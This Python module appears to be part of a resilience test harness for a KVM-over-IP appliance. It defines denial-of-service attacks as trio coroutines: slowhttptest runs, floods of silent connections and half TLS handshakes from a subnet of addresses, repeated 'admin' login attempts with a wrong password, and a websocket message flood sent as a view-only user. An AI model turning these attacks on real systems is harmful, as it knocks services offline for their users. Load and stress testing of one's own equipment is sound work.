"""The attacks: each a coroutine that goes on until it is cancelled.

Those of `slowhttptest` come from one address, the others from a subnet of them.
"""

from __future__ import annotations

import ipaddress
import itertools
import random
import ssl
import subprocess
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

import trio
from trio_websocket import ConnectionClosed, HandshakeError, open_websocket

CONNECTIONS = 200
PER_ADDRESS = 3
ATTEMPT_S = 5.0
"""How long one connection is tried before the next."""


@dataclass(frozen=True)
class Target:
    """Where the appliance is, and who calls it."""

    host: str
    port: int
    viewer: dict[str, str]
    """Credentials of somebody who may only look."""
    attackers: ipaddress.IPv4Network

    @property
    def url(self) -> str:
        """Its URL, without a slash at the end."""
        return f"https://{self.host}:{self.port}"


type Attack = Callable[[Target], Awaitable[None]]
type Client = Callable[[Target, trio.SocketStream], Awaitable[None]]


def untrusting_context() -> ssl.SSLContext:
    """Return a context that takes any certificate, as the appliance's own is signed by nobody."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


# -- slowhttptest --------------------------------------------------------------------------------------------


def slowhttptest(*options: str, path: str = "/login") -> Attack:
    """Return the attack that `slowhttptest` with *options* is."""

    async def attack(target: Target) -> None:
        command = [
            *("slowhttptest", *options, "-c", str(CONNECTIONS), "-r", str(CONNECTIONS), "-i", "1", "-v", "0"),
            *("-l", "3600", "-p", "60", "-u", target.url + path),
        ]
        # Its own report is of a connection from the attackers' address, which is limited as they are.
        await trio.run_process(command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

    return attack


# -- from many addresses -------------------------------------------------------------------------------------


def from_everywhere(client: Client) -> Attack:
    """Return the attack of *client* on connections from many addresses, each opened again when it ends."""

    async def attack(target: Target) -> None:
        addresses = itertools.islice(target.attackers.hosts(), CONNECTIONS // PER_ADDRESS)
        async with trio.open_nursery() as nursery:
            for address in addresses:
                for _ in range(PER_ADDRESS):
                    nursery.start_soon(_again_and_again, client, target, str(address))

    return attack


async def _again_and_again(client: Client, target: Target, address: str) -> None:
    while True:
        # A crowd of attackers has more processors than this machine lends them.
        await trio.sleep(random.uniform(0, 0.5))
        with suppress(OSError, trio.BrokenResourceError, trio.ClosedResourceError):
            with trio.move_on_after(ATTEMPT_S):
                stream = await trio.open_tcp_stream(target.host, target.port, local_address=address)
                async with stream:
                    await client(target, stream)


async def silent(_target: Target, stream: trio.SocketStream) -> None:
    """Say nothing, and wait to be thrown out."""
    await stream.receive_some(1)


async def half_a_handshake(_target: Target, stream: trio.SocketStream) -> None:
    """Begin a TLS handshake and leave it at that."""
    await stream.send_all(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    await stream.receive_some(1)


async def requests(target: Target, stream: trio.SocketStream) -> None:
    """Ask for what one may not have, as fast as it is refused."""
    tls = trio.SSLStream(stream, untrusting_context(), https_compatible=True)
    head = (
        f"GET /api/atx HTTP/1.1\r\nHost: {target.host}\r\nX-KVMD-User: admin\r\nX-KVMD-Passwd: guess\r\n\r\n"
    )
    while True:
        await tls.send_all(head.encode())
        if not await tls.receive_some(4096):
            return


# -- from inside ---------------------------------------------------------------------------------------------


async def messages(target: Target) -> None:
    """Flood the control socket, as somebody who may only look, without ever reading."""
    noise: list[str | bytes] = [b"\x01\x01KeyA", b"\xff" * 64, b"\x00"]
    noise += ['{"event_type": "ping", "event": {}}', '{"event_type": "key", "event": {"key": "KeyA"}}', "[]"]
    pairs = [(name.encode(), value.encode()) for name, value in target.viewer.items()]
    while True:
        with suppress(OSError, ConnectionClosed, HandshakeError):
            async with open_websocket(
                target.host, target.port, "/api/ws", use_ssl=untrusting_context(), extra_headers=pairs
            ) as socket:
                while True:
                    await socket.send_message(random.choice(noise))


ATTACKS: dict[str, Attack] = {
    "slow headers (slowhttptest -H)": slowhttptest("-H"),
    "slow bodies (slowhttptest -B)": slowhttptest("-B", "-s", "8192", path="/api/auth/login"),
    "slow readers (slowhttptest -X)": slowhttptest("-X", "-w", "1", "-y", "512", "-k", "3"),
    "ranges (slowhttptest -R)": slowhttptest("-R"),
    "silent connections": from_everywhere(silent),
    "halves of handshakes": from_everywhere(half_a_handshake),
    "wrong passwords": from_everywhere(requests),
    "a viewer's messages": messages,
}
